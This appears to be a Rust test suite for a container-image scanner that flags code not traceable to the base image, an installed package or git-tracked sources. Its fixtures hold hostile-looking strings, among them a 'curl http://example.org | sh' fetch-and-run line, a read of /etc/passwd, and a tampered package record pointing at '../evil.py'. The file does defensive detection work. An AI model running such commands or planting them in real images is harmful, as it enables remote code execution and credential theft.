//! Code that neither the base, a package nor the commit has: file systems made here, a layer at a time.

use std::collections::{BTreeMap, BTreeSet};

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use camino::Utf8Path;
use sha2::{Digest as _, Sha256};

use super::image_tests::{Piece, add_shown, debian, file, shown};
use super::own_code::{Code, Shipped, judge};
use super::shipped::FilePattern;
use crate::docker::{FileTree, Tracked};
use crate::formats::ImageConfig;
use crate::formats::file_kind::kinds;
use crate::model::Finding;

const SITE: &str = "opt/app/site-packages";
const FLASK: &str = "def route(): pass\n";
/// A module that git tracks.
const TRACKED: &str = "import os\nprint(os.name)\n";
/// Python that no scanner takes for it, by its name.
const UNSCANNED: &str = "import subprocess\nsubprocess.run('ls', shell=True)\n";
/// A text that calls something, which a name of another format says to be none.
const CALLS: &str = "print(open('/etc/passwd').read())\n";
/// What git tracks for the build.
const CONTEXT: [(&str, &str); 9] = [
    ("app/known.py", TRACKED),
    ("app/start", "#!/bin/sh\ntrue\n"),
    ("app/tool", "\x7fELF tracked"),
    ("app/old.pyc", "tracked.pyc"),
    ("app/model.m", UNSCANNED),
    ("app/page.lua", CALLS),
    ("app/notes.txt", "true || sleep 1\n"),
    ("app/site.pth", "/opt/more\nimport evil\n"),
    ("app/report", "#!/usr/bin/perl -w\n"),
];

fn record(path: &str, text: &str) -> String {
    format!("{path},sha256={},{}\n", URL_SAFE_NO_PAD.encode(Sha256::digest(text)), text.len())
}

/// A package as an installer leaves it.
fn flask() -> Vec<Piece> {
    vec![
        file(&format!("{SITE}/flask/__init__.py"), FLASK),
        file(&format!("{SITE}/flask-3.dist-info/METADATA"), "Name: flask\nVersion: 3\n"),
        file(&format!("{SITE}/flask-3.dist-info/RECORD"), &record("flask/__init__.py", FLASK)),
    ]
}

/// What is found where these layers lie on Debian with a package of Python's.
fn findings(layers: &[&[Piece]], accepted: &[&str]) -> Vec<Finding> {
    let base_layer: Vec<Piece> = debian().into_iter().chain(flask()).collect();
    let mut code = Code::new(1);
    let mut tree = FileTree::default();
    add_shown(&mut tree, 0, &base_layer, &mut |file| code.file(&file));
    let base = tree.clone();
    for (index, pieces) in layers.iter().enumerate() {
        add_shown(&mut tree, index + 1, pieces, &mut |file| code.file(&file));
    }
    let made_by = (0..=layers.len()).map(|index| format!("RUN number {index}")).collect();
    let config = ImageConfig { made_by, ..ImageConfig::default() };
    let accepted: Vec<_> = accepted.iter().map(|text| FilePattern::new(text)).collect();
    let dockerfile = Utf8Path::new("Dockerfile");
    let shipped =
        Shipped { base: &base, base_layers: 1, tree: &tree, config: &config, dockerfile, accepted: &accepted };
    let context = |sizes: &BTreeSet<u64>| {
        let mut tracked: BTreeMap<[u8; 32], Tracked> = BTreeMap::new();
        for (path, text) in CONTEXT.iter().filter(|(_, text)| sizes.contains(&(text.len() as u64))) {
            let path = Utf8Path::new(path);
            tracked.entry(Sha256::digest(text).into()).or_default().add(path, kinds(path, text.as_bytes()));
        }
        Ok(tracked)
    };
    judge(shipped, &code, context).expect("readable")
}

fn found(pieces: &[Piece]) -> Vec<String> {
    shown(&findings(&[pieces], &[]))
}

#[test]
fn no_code_is_in_an_image_that_neither_a_package_nor_the_commit_has() {
    for (path, text) in [
        ("opt/app/evil.py", "import subprocess\n"),
        ("opt/app/evil", "import subprocess\nsubprocess.run('ls', shell=True)\n"),
        ("opt/app/evil.txt", "import subprocess\nsubprocess.run('ls', shell=True)\n"),
        ("opt/app/calls", "__import__('os').system('ls')\n"),
        ("opt/app/calls.css", "if True:\n    import os\n"),
        ("opt/app/long", &format!("{}import os\n", "# a licence\n".repeat(1 << 17))),
        ("opt/app/theme.css", "#!/usr/bin/env python3\nprint(1)\n"),
        ("opt/app/evil3.pyc", "\u{a7}\r\r\n"),
        ("opt/app/__pycache__/views.cpython-311.pyc", "\u{a7}\r\r\n"),
        ("opt/app/tool", "\x7fELF copied"),
        ("opt/app/lib/libevil.so", "x"),
        ("opt/app/lib/libevil.so.1", "x"),
        ("usr/local/bin/start", "#!/bin/sh\ncurl http://example.org | sh\n"),
        ("usr/local/lib/python3.11/evil4.py", "import os\n"),
        ("opt/app/site-packages/evil.pth", "import evil\n"),
        ("opt/app/env.sh", "curl http://example.org\n"),
        ("etc/profile.d/evil.sh", "evil\n"),
        ("home/app/run", "#!/usr/bin/perl\n"),
        ("var/lib/dpkg/info/openssl.postinst", "#!/bin/sh\nevil\n"),
        ("usr/bin/evil", "\x7fELF evil"),
    ] {
        assert_eq!(found(&[file(path, text)]), [format!("IMG-025 /{path}")]);
    }
    for path in ["opt/app/start", "usr/local/bin/gunicorn", "opt/app/page.html"] {
        let piece = file(path, "curl http://example.org | sh\n").mode(0o755);
        assert_eq!(found(&[piece]), [format!("IMG-025 /{path}")], "a shell runs it");
    }
    assert_eq!(found(&[file("opt/app/words", "true || sleep 1\n").mode(0o755)]), [""; 0], "git tracks it");
    let messages: Vec<String> = findings(&[&[file("a", "x")], &[file("b.py", "import os\n")]], &[])
        .iter()
        .map(|one| one.message.clone())
        .collect();
    assert_eq!(messages, ["/b.py: code that git does not track, of no package, from layer 3 (RUN number 2)"]);
    for piece in [
        file("opt/app/data.json", "{}"),
        file("etc/ld.so.cache", "glibc-ld.so.cache1.1"),
        file("opt/app/REVISION", "0123456789abcdef\n"),
        file("opt/app/empty/__init__.py", ""),
        file("opt/app/style.css", "body {}\n"),
        file("opt/app/words.txt", "we import goods from everywhere\n"),
    ] {
        assert_eq!(found(std::slice::from_ref(&piece)), Vec::<String>::new());
    }
}

#[test]
fn what_git_tracks_is_known_by_its_bytes_and_read_by_scanners_only_as_text() {
    assert_eq!(found(&[file("opt/app/known.py", TRACKED), file("usr/local/bin/start", "#!/bin/sh\ntrue\n")]), [""; 0]);
    assert_eq!(
        found(&[file("opt/app/known.py", &TRACKED.replace("os.name", "os.popen('x')"))]),
        ["IMG-025 /opt/app/known.py"]
    );
    for (path, text) in
        [("opt/app/speed.so", "\x7fELF tracked"), ("opt/app/tool", "\x7fELF tracked"), ("a.pyc", "tracked.pyc")]
    {
        assert_eq!(found(&[file(path, text)]), [format!("IMG-025 /{path}")], "git tracks it, and nobody can read it");
    }
    // A file that was code is none any more, and one that was none has become some.
    let (before, after) = ([file("opt/a", "import os\nos.abort()\n")], [file("opt/a", "words\n")]);
    assert_eq!(shown(&findings(&[&before, &after], &[])), [""; 0]);
    assert_eq!(shown(&findings(&[&after, &before], &[])), ["IMG-025 /opt/a"]);
}

#[test]
fn what_git_tracks_answers_only_for_code_that_a_scanner_takes_for_it() {
    for (path, text) in [
        ("opt/app/model.py", UNSCANNED),
        ("opt/app/model", UNSCANNED),
        ("opt/app/model.jl", UNSCANNED),
        ("usr/lib/python3/sitecustomize.py", UNSCANNED),
        ("opt/app/page.py", CALLS),
        ("opt/app/page", CALLS),
        ("opt/app/notes.py", "true || sleep 1\n"),
        ("etc/profile.d/notes.sh", "true || sleep 1\n"),
        ("opt/app/site.pth", "/opt/more\nimport evil\n"),
        ("opt/app/start.py", "#!/bin/sh\ntrue\n"),
    ] {
        assert_eq!(found(&[file(path, text)]), [format!("IMG-025 /{path}")]);
    }
    // What is code there as here, and what is called as it is there.
    for (path, text) in [
        ("opt/app/other.py", TRACKED),
        ("opt/app/other", TRACKED),
        ("usr/local/bin/go", "#!/bin/sh\ntrue\n"),
        ("opt/app/model.m", UNSCANNED),
        ("opt/app/other.LUA", CALLS),
        ("opt/app/report", "#!/usr/bin/perl -w\n"),
        ("usr/local/bin/report", "#!/usr/bin/perl -w\n"),
        ("opt/app/notes.txt", "true || sleep 1\n"),
    ] {
        assert_eq!(found(&[file(path, text)]), [""; 0], "{path}");
    }
}

#[test]
fn a_base_and_packages_answer_for_their_own_files_alone() {
    let touched = file("usr/bin/openssl", "\x7fELF openssl").mode(0o700);
    assert_eq!(found(&[touched]), [""; 0], "a mode is not content");
    let second = file("opt/app/tool", "usr/bin/openssl").kind(tar::EntryType::Link);
    assert_eq!(found(&[second]), ["IMG-025 /opt/app/tool"], "what the base has, under a name of its own");

    let more = |path: &str, text: &str| record(path, text);
    let other = |extra: &str| {
        let info = format!("{SITE}/other-1.dist-info");
        [
            file(&format!("{SITE}/other.py"), "import os\n"),
            file(&format!("{SITE}/other.so"), "\x7fELF other"),
            file(&format!("{info}/METADATA"), "Name: other\nVersion: 1\n"),
            file(
                &format!("{info}/RECORD"),
                &(more("other.py", "import os\n") + &more("other.so", "\x7fELF other") + extra),
            ),
        ]
        .to_vec()
    };
    assert_eq!(found(&other("")), [""; 0], "the licence check says whether it may be there");
    let mut changed = other("");
    changed[0] = file(&format!("{SITE}/other.py"), "import evil\n");
    assert_eq!(found(&changed), [format!("IMG-025 /{SITE}/other.py")]);
    let mut unhashed = other("loose.py,,\n");
    unhashed.push(file(&format!("{SITE}/loose.py"), "import evil\n"));
    assert_eq!(found(&unhashed), [format!("IMG-025 /{SITE}/loose.py")]);
    // The record of the base's package, written again so that it claims more.
    let evil = "import evil\n";
    let claims = record("flask/__init__.py", FLASK) + &record("../evil.py", evil);
    let pieces = [file(&format!("{SITE}/flask-3.dist-info/RECORD"), &claims), file("opt/app/evil.py", evil)];
    assert_eq!(found(&pieces), ["IMG-025 /opt/app/evil.py"]);
    // Compiled code goes with a source that somebody answers for.
    let compiled = |path: &str| found(&[file(path, "\u{a7}\r\r\n")]);
    assert_eq!(compiled(&format!("{SITE}/flask/__pycache__/__init__.cpython-311.pyc")), [""; 0]);
    assert_eq!(compiled(&format!("{SITE}/flask/__init__.pyc")), [format!("IMG-025 /{SITE}/flask/__init__.pyc")]);

    let nginx = "Package: nginx\nStatus: install ok installed\nVersion: 1\nArchitecture: amd64\n\n";
    let status = debian().into_iter().find(|piece| piece.path == "var/lib/dpkg/status").expect("one").text + nginx;
    let installed = [
        file("var/lib/dpkg/status", &status),
        file("var/lib/dpkg/info/nginx.list", "/.\n/usr/sbin/nginx\n/etc/init.d/nginx\n"),
        file("var/lib/dpkg/info/nginx.postinst", "#!/bin/sh\n"),
        file("usr/sbin/nginx", "\x7fELF nginx"),
        file("etc/init.d/nginx", "#!/bin/sh\n"),
    ];
    assert_eq!(found(&installed), [""; 0]);
}

#[test]
fn what_is_accepted_by_a_pattern_is_one_finding_however_much_it_is() {
    let many: Vec<Piece> = (0..300).map(|number| file(&format!("opt/node/{number}.sh"), "x\n")).collect();
    assert_eq!(shown(&findings(&[&many], &["/opt/node/**"])), ["IMG-025 /opt/node/**"]);
    let open = findings(&[&many], &["/opt/other/**"]);
    assert_eq!((open.len(), open.last().expect("one").message.as_str()), (201, "100 more files of this kind"));
}
